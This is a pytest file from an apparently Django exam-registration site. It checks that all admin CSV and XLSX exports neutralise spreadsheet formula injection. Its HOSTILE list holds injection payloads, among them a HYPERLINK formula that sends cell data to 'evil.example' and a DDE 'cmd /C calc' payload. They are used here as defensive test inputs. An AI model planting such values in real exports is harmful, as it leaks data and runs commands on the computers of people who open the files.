"""Issue 14: formula injection in exports. One test over every exporter of the project.

Every admin with an export (django-import-export) and every format it offers is exported with
candidates whose fields start like formulas; no cell of the file may start a formula, in CSV
(read back as text) and in XLSX (openpyxl must see text, never a formula cell).
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.test import RequestFactory
from import_export.mixins import BaseExportMixin

from examsite.spreadsheets import FORMULA_STARTS, escape_formula
from tests import factories

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "==1",
    "+-+=1",
]


def exporters():
    return [
        (model, model_admin) for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, BaseExportMixin)
    ]


def test_the_helper_escapes_every_formula_start_repeated_or_mixed():
    for value in HOSTILE:
        assert escape_formula(value) == "'" + value
    assert escape_formula("张三") == "张三"
    assert escape_formula(42) == 42
    assert escape_formula("") == ""


def starts_a_formula(cell) -> bool:
    return isinstance(cell, str) and cell.startswith(FORMULA_STARTS)


@pytest.mark.django_db
def test_every_export_of_the_project_escapes_formulas(organizer):
    session = factories.SessionFactory(subject="@SUM(1)")
    for n, value in enumerate(HOSTILE):
        candidate = factories.CandidateFactory(name=value, phone=HOSTILE[(n + 1) % len(HOSTILE)][:32])
        factories.RegistrationFactory(
            candidate=candidate, session=session, subject=value, admission_ticket=f"=A{n}"
        )
    found = exporters()
    assert {m._meta.model_name for m, _a in found} >= {"candidate", "registration"}
    request = RequestFactory().get("/admin/")
    request.user = factories.staff_user("superorganizer", "organizer", superuser=True)
    for model, model_admin in found:
        formats = model_admin.get_export_formats()
        assert {f().get_extension() for f in formats} >= {"csv", "xlsx"}, model
        for file_format in formats:
            fmt = file_format()
            data = model_admin.get_export_data(fmt, request, model._default_manager.all())
            if fmt.get_extension() == "xlsx":
                sheet = openpyxl.load_workbook(io.BytesIO(data)).active
                cells = [c for row in sheet.iter_rows() for c in row]
                assert not [c.coordinate for c in cells if c.data_type == "f"], model
                values = [c.value for c in cells]
            else:
                text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
                values = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
            assert not [v for v in values if starts_a_formula(v)], (model, fmt.get_extension())
            # The hostile text is kept (for the record), only made inert.
            assert "'" + HOSTILE[0] in values, (model, fmt.get_extension())
